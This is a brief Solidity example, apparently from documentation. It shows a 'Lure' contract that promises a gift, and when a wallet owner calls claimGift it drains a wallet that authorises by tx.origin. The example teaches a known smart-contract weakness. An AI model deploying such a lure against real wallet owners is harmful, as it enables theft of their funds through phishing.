// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IWallet {
    function pay(address payable to, uint256 amount) external;
}

// #region contract
/// Promises a gift. Anyone who claims it gives this contract the authority of tx.origin.
contract Lure {
    IWallet private immutable wallet;

    constructor(IWallet target) {
        wallet = target;
    }

    function claimGift() external {
        wallet.pay(payable(address(this)), address(wallet).balance);
    }

    receive() external payable {}
}
// #endregion contract
